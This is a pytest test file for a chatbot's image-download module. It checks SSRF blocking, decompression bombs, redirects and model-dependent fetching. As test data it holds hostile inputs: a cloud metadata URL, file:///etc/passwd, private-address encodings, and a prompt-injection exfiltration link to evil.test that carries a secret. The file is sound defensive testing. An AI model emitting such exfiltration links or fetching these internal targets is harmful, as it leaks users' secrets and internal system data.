"""Pictures that answers link to: fetched from public places only."""

from __future__ import annotations

import gzip
import io
import socket

import aiohttp
import pytest
from aiohttp import web
from aiohttp.abc import AbstractResolver
from aiohttp.test_utils import TestServer
from PIL import Image

from bot.chat.events import Event, Finished, ImageReady, TextDelta
from bot.llm import downloads
from bot.llm.downloads import Downloads, PublicResolver, is_public, public_session
from bot.llm.linked import ImageLinked
from tests.llm.gateway import gateway, openai_stream, question


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 2)).save(out, "PNG")
    return out.getvalue()


@pytest.fixture
async def host():
    """A host of pictures on this machine, and of things that only look like some."""

    async def serve(request: web.Request) -> web.Response:
        match request.match_info["name"]:
            case "fox.png":
                return web.Response(body=png())
            case "bomb.png":
                packed = gzip.compress(png() + bytes(downloads.MAX_BYTES))
                return web.Response(body=packed, headers={"Content-Encoding": "gzip"})
            case "page.png":
                return web.Response(text="<html>Log in</html>", content_type="text/html")
            case "huge.png":
                return web.Response(body=png() + bytes(downloads.MAX_BYTES))
            case "moved.png":
                raise web.HTTPFound("/fox.png")
            case "away.png":
                raise web.HTTPFound("http://127.0.0.1:1/fox.png")
            case "round.png":
                raise web.HTTPFound("/round.png")
        raise web.HTTPNotFound

    app = web.Application()
    app.router.add_get("/{name}", serve)
    server = TestServer(app, host="127.0.0.1")
    await server.start_server()
    yield str(server.make_url("/")).rstrip("/")
    await server.close()


@pytest.mark.parametrize(
    ("name", "found"),
    [
        ("fox.png", True),
        ("moved.png", True),
        ("page.png", False),
        ("bomb.png", False),
        ("huge.png", False),
        ("away.png", False),
        ("round.png", False),
        ("gone.png", False),
    ],
)
async def test_the_gateways_own_pictures_are_fetched(host: str, name: str, found: bool) -> None:
    async with aiohttp.ClientSession() as session, public_session() as public:
        own = Downloads(public, {host: session})
        image = await own.fetch(ImageLinked(f"{host}/{name}", "a fox", ""), anywhere=False)
    assert (image is not None) == found
    if image is not None:
        assert (image.data, image.alt, image.width, image.height) == (png(), "a fox", 4, 2)


@pytest.mark.parametrize(
    "url",
    [
        "http://example.com/a.png",
        "https://127.0.0.1/a.png",
        "https://[::1]/a.png",
        "https://[::ffff:10.0.0.1]/a.png",
        "https://169.254.169.254/latest/meta-data",
        "https://2130706433/a.png",
        "file:///etc/passwd",
        "https:///a.png",
        "https://a.test:99999/a.png",
    ],
)
async def test_nothing_is_fetched_from_private_places(url: str) -> None:
    async with public_session() as public:
        linked = ImageLinked(url, "", "")
        assert await Downloads(public, {}).fetch(linked, anywhere=True) is None


class OneAddress(AbstractResolver):
    def __init__(self, address: str) -> None:
        self.address = address

    async def resolve(self, host, port=0, family=socket.AF_INET):
        return [
            {
                "hostname": host,
                "host": self.address,
                "port": port,
                "family": family,
                "proto": 0,
                "flags": 0,
            }
        ]

    async def close(self) -> None:
        """Nothing to close."""


async def test_a_name_that_leads_to_a_private_address_is_not_followed() -> None:
    with pytest.raises(OSError, match="no public address"):
        await PublicResolver(OneAddress("192.168.1.1")).resolve("intranet.example")
    assert await PublicResolver(OneAddress("8.8.8.8")).resolve("dns.example")


@pytest.mark.parametrize(
    ("address", "public"),
    [("8.8.8.8", True), ("10.1.2.3", False), ("100.64.0.1", False), ("224.0.0.1", False),
     ("2606:4700::1", True), ("fe80::1", False), ("::ffff:127.0.0.1", False),
     # What routers may turn into IPv4, and what nobody routes.
     ("64:ff9b::a00:1", False), ("64:ff9b::808:808", True), ("2002:7f00:1::", False),
     ("::127.0.0.1", False), ("fec0::1", False), ("fe80::1%eth0", False), ("0.0.0.0", False)],
)  # fmt: skip
def test_addresses_are_public_or_not(address: str, public: bool) -> None:
    assert is_public(address) == public


async def events_of(text: str, *, own: Downloads | None) -> list[Event]:
    async with gateway(openai_stream(text)) as there:
        return await there.answer(question(), there.model(downloads=own))


async def test_a_linked_picture_is_part_of_the_answer(host: str) -> None:
    async with aiohttp.ClientSession() as session, public_session() as public:
        own = Downloads(public, {host: session})
        text = f"A ![fox]({host}/fox.png) and\n{host}/fox.png\nand ![gone]({host}/gone.png)"
        events = await events_of(text, own=own)
    pictures = [event.image.alt for event in events if isinstance(event, ImageReady)]
    assert pictures == ["fox"]
    words = "".join(event.text for event in events if isinstance(event, TextDelta))
    assert words == f"A  and\n\nand ![gone]({host}/gone.png)"
    assert isinstance(events[-1], Finished)


class Watched:
    """A session to the public internet that only notes what is asked of it."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def get(self, url, **_more):
        self.asked.append(str(url))
        raise TimeoutError


@pytest.mark.parametrize(
    ("model", "fetched"),
    [("gpt-4o", False), ("claude-sonnet-5", False), ("gpt-4o-image", True)],
)
async def test_only_models_that_make_pictures_have_them_fetched_from_anywhere(model, fetched):
    """Whoever talks a chat model into a link with what it knows in the address learns nothing."""
    public = Watched()
    own = Downloads(public, {})  # type: ignore[arg-type]
    text = "A ![cat](https://evil.test/?q=the+secret+code+is+4711)"
    async with gateway(openai_stream(text)) as there:
        events = await there.answer(question(model), there.model(downloads=own))
    assert public.asked == (["https://evil.test/?q=the+secret+code+is+4711"] if fetched else [])
    words = "".join(event.text for event in events if isinstance(event, TextDelta))
    assert words == text


async def test_without_downloads_links_stay_links() -> None:
    events = await events_of("A ![fox](https://a.test/fox.png)", own=None)
    words = "".join(event.text for event in events if isinstance(event, TextDelta))
    assert words == "A ![fox](https://a.test/fox.png)"
